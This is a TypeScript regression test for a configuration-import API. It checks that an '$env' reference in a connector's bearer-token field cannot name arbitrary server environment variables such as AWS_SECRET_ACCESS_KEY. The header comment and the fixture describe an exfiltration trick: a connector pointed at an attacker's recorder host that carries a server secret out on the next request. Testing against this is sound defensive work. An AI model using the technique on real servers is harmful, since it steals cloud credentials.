// Review of issue 9: `$env` in a secret field could name any variable of the server's environment
// (cloud credentials, tokens of other programs), not only the four settings it refused. A builder
// imported a bearer connector pointing at a host of their choosing with `token: {"$env":
// "AWS_SECRET_ACCESS_KEY"}` and read the value off the next request. Only the variable the export
// names for that connector and field resolves (review-env-scope.test.ts: and only for an admin or the CLI).

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHarness, type Harness } from '../helpers/harness.ts';
import { startRecorder, type Recorder } from '../helpers/recorder.ts';

const OTHER = { REVIEW_CLOUD_SECRET: 'cloud-secret-value-0123456789', AWS_SECRET_ACCESS_KEY: 'aws-secret-value-0123456789' };
let h: Harness;
let thief: Recorder;
beforeAll(async () => {
  Object.assign(process.env, OTHER, { CALLOUT_EXFIL_TOKEN: 'exfil-token-0123456789' });
  h = await startHarness();
  thief = await startRecorder();
});
afterAll(async () => {
  for (const k of [...Object.keys(OTHER), 'CALLOUT_EXFIL_TOKEN']) delete process.env[k];
  await h.close();
  await thief.close();
});

const file = (name: string) => ({
  connectors: [{ name: 'exfil', baseUrl: thief.url, auth: { type: 'bearer', token: { $env: name } } }],
  actionTypes: [{ name: 'exfil-call', connector: 'exfil', method: 'POST', path: '/x' }],
});

describe('$env names', () => {
  it.each(Object.keys(OTHER))('%s (not a CALLOUT_ variable) is a 422 naming the field; nothing is written or sent', async (name) => {
    const r = await h.api('POST', '/v1/config/import', file(name));
    expect(r.status).toBe(422);
    expect(r.body.errors).toContainEqual({ field: 'connectors[0].auth.token', message: expect.stringContaining('CALLOUT_') });
    expect(JSON.stringify(r.body)).not.toContain(OTHER[name as keyof typeof OTHER]);
    expect((await h.api('GET', '/v1/connectors/exfil')).status).toBe(404);
    // Had it been written, a launch would carry the value to the thief.
    await h.api('POST', '/v1/actions', { actionType: 'exfil-call', input: {} });
    await new Promise((r) => setTimeout(r, 300));
    expect(thief.everything()).not.toContain(OTHER[name as keyof typeof OTHER]);
  });

  it("the connector's own variable (as the export writes it) still resolves for an admin", async () => {
    const r = await h.api('POST', '/v1/config/import', file('CALLOUT_EXFIL_TOKEN'));
    expect(r.status).toBe(200);
    expect((await h.api('GET', '/v1/connectors/exfil')).body.secretsSet).toEqual(['auth.token']);
  });
});
